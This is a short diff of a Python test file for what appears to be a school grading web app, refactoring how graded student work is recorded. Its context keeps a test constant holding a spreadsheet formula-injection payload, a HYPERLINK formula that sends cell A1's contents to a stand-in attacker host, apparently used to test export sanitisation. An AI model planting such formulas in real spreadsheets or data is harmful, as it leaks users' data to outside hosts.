@@ -10,10 +10,10 @@ from typing import Any
 
 from fastapi import FastAPI
 
-from app.activities.work import ClassDraft
 from app.grading.grade import grade
 from app.store import ClassSheetKey, Graded, Plan, Policies, Student, VariantSizes
 from tests.helpers.school import School
+from tests.helpers.stored_class import record
 
 EVIL = '=HYPERLINK("http://evil.example/?"&A1,"look")'
 
@@ -58,7 +58,7 @@ class Taught:
         key = ClassSheetKey(who.id, self.activity.id, 1, item + 1, self.activity.content.items[item].sheet_key)
         sizes = VariantSizes(variant.model.key, variant.tokens)
         graded = Graded(marks, (), report.score, report.out_of)
-        self.work.record(key, client, ClassDraft(answers, 1, sizes), graded, handed_in=True)
+        record(self.school.store, key, answers, graded, client_id=client, sizes=sizes)
 
     def get(self, name: str) -> Any:
         with self.school.browser(teacher=self.ada) as browser:
